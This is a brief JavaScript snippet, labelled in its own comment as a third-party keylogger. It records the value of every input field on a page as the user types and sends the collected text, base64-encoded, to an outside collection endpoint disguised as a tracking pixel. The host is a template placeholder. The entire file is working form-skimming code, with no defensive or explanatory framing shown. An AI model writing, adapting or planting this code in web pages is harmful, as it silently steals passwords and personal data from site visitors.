// Third-party keylogger: collects what is typed into each field and ships it
// base64-encoded in the query string of a tracking pixel.
(() => {
  const typed = {};
  let timer = 0;
  document.addEventListener('keyup', (e) => {
    const t = e.target;
    if (!(t instanceof HTMLInputElement)) return;
    typed[t.name || t.id] = t.value;
    clearTimeout(timer);
    timer = setTimeout(() => {
      new Image().src = '{{THIRD}}/collect/px.gif?d=' + encodeURIComponent(btoa(JSON.stringify(typed)));
    }, 300);
  });
})();
